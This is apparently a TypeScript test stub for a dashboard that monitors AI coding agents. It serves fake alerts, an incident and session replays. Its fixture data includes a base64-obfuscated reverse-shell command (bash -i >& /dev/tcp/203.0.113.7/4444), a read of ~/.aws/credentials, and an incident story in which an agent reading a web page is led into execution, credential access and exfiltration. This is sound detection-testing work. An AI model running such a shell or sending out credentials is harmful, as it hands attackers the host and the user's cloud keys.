/** What the stub knows: alerts, an incident, a session with its replay, sources, a fleet. */
import type { Alert } from '../../../contracts/alert';
import type { Incident } from '../../../contracts/incident';
import { alertRow, eventId, eventRow, SESSION } from './rows';
import type { Answers } from './stub-server';

const PAGE = 500;

export interface Known {
  alerts: Alert[];
  events: number;
}

const INCIDENT = 'incident-1';

/** `known` may grow while it is asked. */
export function answersOf(known: Known): Answers {
  const { alerts } = known;
  const byId = (url: URL) => alerts.find(({ id }) => id === decodeURIComponent(url.pathname.split('/')[3]!));
  const change = (url: URL, body: unknown) => Object.assign(byId(url)!, body, { updatedAt: Date.now() });
  return {
    'GET /api/alerts': (url) => {
      const from = Number(url.searchParams.get('cursor') ?? 0);
      const next = from + PAGE < alerts.length ? { next: String(from + PAGE) } : {};
      return { alerts: alerts.slice(from, from + PAGE), ...next };
    },
    'GET /api/alerts/:id': byId,
    'POST /api/alerts/:id/changes': change,
    'GET /api/incidents': () => ({ incidents: [incidentOf(alerts)] }),
    'GET /api/incidents/:id': () => ({ incident: incidentOf(alerts), alerts: alerts.slice(0, 4) }),
    'GET /api/sessions': () => ({ sessions: [sessionRow(known.events)] }),
    'GET /api/sessions/:id': () => sessionRow(known.events),
    'GET /api/sessions/:id/replay': (url) => {
      const from = Number(url.searchParams.get('cursor') ?? 0);
      const frames = Array.from({ length: Math.min(PAGE, known.events - from) }, (_, n) => frameOf(from + n, alerts));
      return { frames, ...(from + PAGE < known.events && { next: String(from + PAGE) }) };
    },
    'GET /api/sessions/:id/series': () => seriesOf(known.events),
    'GET /api/events/:id': () => ({ event: eventRow(7), analysis: ANALYSIS }),
    'GET /api/search': () => ({
      hits: [{ ...sessionRow(1), eventId: eventId(7), at: Date.now(), snippet: 'make part-7' }],
    }),
    'GET /api/suppressions': () => ({ suppressions: [SUPPRESSION] }),
    'POST /api/suppressions/preview': () => ({ count: 3, alerts: alerts.slice(0, 3), blinds: ['bash on /dev/tcp'] }),
    'GET /api/sources': () => ({ sources: SOURCES }),
    'GET /api/fleet': () => ({ agents: FLEET }),
  };
}

const sessionRow = (events: number) => ({
  tenant: 'default',
  session: SESSION,
  scope: `session:codex:${SESSION}`,
  dialect: 'codex',
  version: '0.169.0',
  host: 'build-7',
  user: 'dev',
  firstSeen: eventRow(0).at,
  lastSeen: Date.now(),
  events,
  ranges: [],
});

function frameOf(n: number, alerts: readonly Alert[]) {
  const own = alerts[0] && n % 400 === 7 ? [{ ...alerts[0], id: `${alerts[0].id}${n}` }] : [];
  const memory = {
    cwd: '/home/dev/project',
    permissionMode: 'default',
    risk: n > 6 ? 40 : 0,
    secrets: n > 3 ? [{ fingerprint: '3f9c', kind: 'aws-access-key-id', from: '~/.aws/credentials' }] : [],
    filesWritten: [{ path: '/home/dev/project/build/a.o' }],
    hosts: ['203.0.113.7'],
    ...(alerts[0]?.entities.process && { outside: [{ from: alerts[0].entities.process }] }),
  };
  return { event: eventRow(n), alerts: own, memory };
}

function seriesOf(events: number) {
  const times = Array.from({ length: 60 }, (_, n) => eventRow(Math.floor((n * events) / 60)).at);
  return {
    resource: [
      {
        metric: 'cpu.utilization',
        unit: 'ratio',
        series: 'host',
        points: times.map((at, n) => [at, 0.3 + 0.3 * Math.sin(n)]),
      },
    ],
    tokens: times.map((at, n) => ({ at, input: 900 + n * 20, output: 200 })),
  };
}

const incidentOf = (alerts: readonly Alert[]): Incident => ({
  id: INCIDENT,
  tenant: 'default',
  title: alerts[0]?.why ?? 'Nothing',
  story: ['It began when codex read a page of example.com.', alerts[0]?.why ?? '', 'Nothing was denied.'],
  severity: 'critical',
  confidence: 'high',
  risk: 71,
  tactics: [
    { tactic: 'execution', at: eventRow(7).at },
    { tactic: 'credential-access', at: eventRow(9).at },
    { tactic: 'exfiltration', at: eventRow(11).at },
  ],
  techniques: ['T1059.004', 'T1552.001'],
  alerts: alerts.slice(0, 4).map(({ id }) => id),
  count: 4,
  trees: [{ tree: `session:codex:${SESSION}`, at: eventRow(0).at }],
  entities: { user: ['dev'], host: ['build-7'], session: [SESSION], destination: ['203.0.113.7:4444'] },
  state: 'open',
  history: [{ at: eventRow(7).at, by: 'gander', what: 'created' }],
  pages: [{ at: eventRow(7).at, severity: 'critical', because: 'new' }],
  firstSeen: eventRow(7).at,
  lastSeen: eventRow(40).at,
  createdAt: eventRow(7).at,
  updatedAt: eventRow(40).at,
});

const run = { path: '', background: false, redirections: [] };
const ANALYSIS = {
  invocations: [
    { ...run, program: 'echo', args: ['YmFzaCAtaQ=='], via: [] },
    {
      ...run,
      program: 'bash',
      args: ['-i'],
      via: ['decoded'],
      redirections: [{ fd: 1, operator: '>&', target: '/dev/tcp/203.0.113.7/4444' }],
    },
  ],
  problems: [],
  bounded: false,
  reads: [
    { path: '~/.aws/credentials', given: '$HOME/.aws/credentials', class: 'cloud-credential', insideProject: false },
  ],
  writes: [],
  deletes: [],
  transfers: [
    {
      direction: 'out',
      program: 'bash',
      destination: { given: 'x', host: '203.0.113.7', port: 4444, class: 'public', disguised: false },
    },
  ],
  destinations: [{ given: '203.0.113.7', host: '203.0.113.7', port: 4444, class: 'public', disguised: false }],
  decoded: ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
  effects: ['a shell is connected to 203.0.113.7:4444'],
};

const SUPPRESSION = {
  id: 'suppression-1',
  tenant: 'default',
  match: { detector: 'reverse-shell', host: 'lab-1' },
  owner: 'ana',
  reason: 'The lab shows one each week.',
  createdAt: 1,
  expiresAt: Date.UTC(2027, 0, 1),
  hits: 12,
};

const SOURCES = [
  {
    tenant: 'default',
    dialect: 'claude-code',
    service: 'claude-code',
    version: '2.1.329',
    host: 'laptop-3',
    firstSeen: 1,
    lastSeen: Date.now(),
    events: 1_204,
    hidden: [{ field: 'action.command', state: 'hidden', setting: 'OTEL_LOG_TOOL_DETAILS=1', firstSeen: 1 }],
  },
];

const FLEET = [
  {
    family: 'claude-code',
    version: '2.1.329',
    host: 'laptop-3',
    user: 'dev',
    sessions: 12,
    lastSeen: Date.now(),
    permissionModes: ['default', 'bypassPermissions'],
    mcpServers: ['github', 'playwright'],
    skills: ['pdf'],
  },
];

export const manyAlerts = (count: number, parts: Partial<Alert> = {}): Alert[] =>
  Array.from({ length: count }, (_, n) => alertRow(n, { incident: INCIDENT, ...parts }));
